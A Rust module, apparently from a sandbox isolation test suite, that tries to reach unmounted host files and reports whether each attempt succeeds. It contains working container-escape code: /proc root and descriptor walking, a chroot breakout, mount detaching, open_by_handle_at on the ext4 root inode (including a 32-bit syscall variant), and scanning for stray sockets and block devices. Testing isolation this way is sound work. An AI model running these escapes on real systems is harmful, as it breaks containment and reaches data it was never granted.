//! Files of the host that nothing mounts here.

use std::{
    fs::{self, File},
    os::fd::AsRawFd,
};

use crate::{
    Attempt, Outcome,
    sys::{self, any, c, last},
    targets::Targets,
};

pub const ATTEMPTS: &[&Attempt] = &[
    &Attempt {
        name: "a_host_file_through_proc",
        controlled: true,
        run: through_proc,
    },
    &Attempt {
        name: "a_host_file_through_descriptors",
        controlled: true,
        run: through_descriptors,
    },
    &Attempt {
        name: "a_host_file_out_of_a_chroot",
        controlled: true,
        run: out_of_a_chroot,
    },
    &Attempt {
        name: "a_host_file_under_the_mounts",
        controlled: false,
        run: under_the_mounts,
    },
    &Attempt {
        name: "the_top_of_the_disk_by_its_handle",
        controlled: true,
        run: by_handle,
    },
    &Attempt {
        name: "the_same_as_a_32_bit_program",
        controlled: true,
        run: by_handle_as_32_bit,
    },
    &Attempt {
        name: "sockets_and_devices_that_lie_around",
        controlled: false,
        run: lying_around,
    },
];

/// Numbers of the processes that are seen.
pub fn seen() -> impl Iterator<Item = String> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    let names = entries.filter_map(|entry| entry.file_name().into_string().ok());
    names.filter(|name| name.bytes().all(|byte| byte.is_ascii_digit()))
}

fn look(targets: &Targets, place: &str) -> Result<String, String> {
    let path = targets.from(place);
    if targets.is_found(&path) {
        Ok(format!("read through {place}"))
    } else {
        Err("not there".to_owned())
    }
}

fn through_proc(targets: &Targets) -> Outcome {
    any(seen()
        .flat_map(|pid| ["root", "cwd"].map(|link| look(targets, &format!("/proc/{pid}/{link}")))))
}

/// What whoever started these processes forgot to close.
fn through_descriptors(targets: &Targets) -> Outcome {
    // One that is open for certain, so that there is something to try.
    let _top = File::open("/");
    any(seen().flat_map(|pid| {
        let folder = format!("/proc/{pid}/fd");
        let entries = fs::read_dir(&folder).into_iter().flatten().flatten();
        let names: Vec<_> = entries
            .filter_map(|entry| entry.file_name().into_string().ok())
            .collect();
        names
            .into_iter()
            .map(move |fd| look(targets, &format!("{folder}/{fd}")))
    }))
}

fn out_of_a_chroot(targets: &Targets) -> Outcome {
    let jail = format!("{}/jail", targets.get("folder"));
    let _ = fs::create_dir(&jail);
    // SAFETY: strings that end in NUL.
    any([unsafe {
        if sys::chroot(c(&jail).as_ptr()) != 0 {
            Err(format!("chroot: {}", last()))
        } else {
            // The working directory was left outside of the jail.
            let _ = std::env::set_current_dir("../".repeat(24));
            sys::chroot(c(".").as_ptr());
            look(targets, "")
        }
    }])
}

fn under_the_mounts(targets: &Targets) -> Outcome {
    any([sys::leave_mounts().and_then(|()| {
        let text = fs::read_to_string("/proc/self/mountinfo").map_err(|error| error.to_string())?;
        let mut places: Vec<&str> = text
            .lines()
            .filter_map(|line| line.split(' ').nth(4))
            .collect();
        places.sort_by_key(|place| std::cmp::Reverse(place.len()));
        let mut gone = 0;
        for place in places {
            let here = targets.from(place);
            // SAFETY: a string that ends in NUL.
            gone += i32::from(unsafe { sys::umount2(c(place).as_ptr(), sys::MNT_DETACH) } == 0);
            if targets.is_found(&here) || targets.is_found(targets.get("file")) {
                return Ok(format!("read when {place} was gone"));
            }
        }
        Err(format!("{gone} mounts gone, and it is not there"))
    })])
}

/// `struct file_handle` of what ext4 calls inode 2, which is the top of every disk.
const TOP: [u32; 4] = [8, 1, 2, 0];

fn by_handle(targets: &Targets) -> Outcome {
    let Ok(folder) = File::open(targets.get("folder")) else {
        return Outcome::Absent("no folder".to_owned());
    };
    // SAFETY: a descriptor and a structure of the shape that the call reads.
    let fd = unsafe { sys::open_by_handle_at(folder.as_raw_fd(), TOP.as_ptr().cast(), 0) };
    any([if fd >= 0 {
        Ok("opened".to_owned())
    } else {
        Err(last())
    }])
}

#[cfg(target_arch = "x86_64")]
fn by_handle_as_32_bit(targets: &Targets) -> Outcome {
    const OPEN_BY_HANDLE_AT: u32 = 342;
    let Ok(folder) = File::open(targets.get("folder")) else {
        return Outcome::Absent("no folder".to_owned());
    };
    let handle = sys::below_4_gib();
    // SAFETY: a page of our own, which is larger.
    unsafe { std::ptr::copy_nonoverlapping(TOP.as_ptr(), handle, TOP.len()) };
    let fd = folder.as_raw_fd().cast_unsigned();
    let answer = sys::as_32_bit(OPEN_BY_HANDLE_AT, [fd, handle as usize as u32, 0]);
    any([if answer >= 0 {
        Ok("opened".to_owned())
    } else {
        Err(last())
    }])
}

#[cfg(not(target_arch = "x86_64"))]
fn by_handle_as_32_bit(_: &Targets) -> Outcome {
    Outcome::Absent("this processor has no such calls".to_owned())
}

/// What can be reached by name: sockets that are not the service's own, and disks.
fn lying_around(targets: &Targets) -> Outcome {
    use std::os::unix::fs::FileTypeExt;
    let mut found = Vec::new();
    let mut folders = vec![std::path::PathBuf::from("/")];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(&folder).into_iter().flatten().flatten() {
            let path = entry.path();
            let Ok(kind) = entry.file_type() else {
                continue;
            };
            let shown = path.display().to_string();
            let own = targets.list("sockets").any(|own| shown.ends_with(own));
            if kind.is_dir() && !shown.ends_with("/proc") && shown != "/sys" {
                folders.push(path);
            } else if (kind.is_socket() && !own)
                || (kind.is_block_device() && File::open(&path).is_ok())
            {
                found.push(shown);
            }
        }
    }
    if found.is_empty() {
        return Outcome::Refused("none but the service's own".to_owned());
    }
    Outcome::Through(found.join(" "))
}
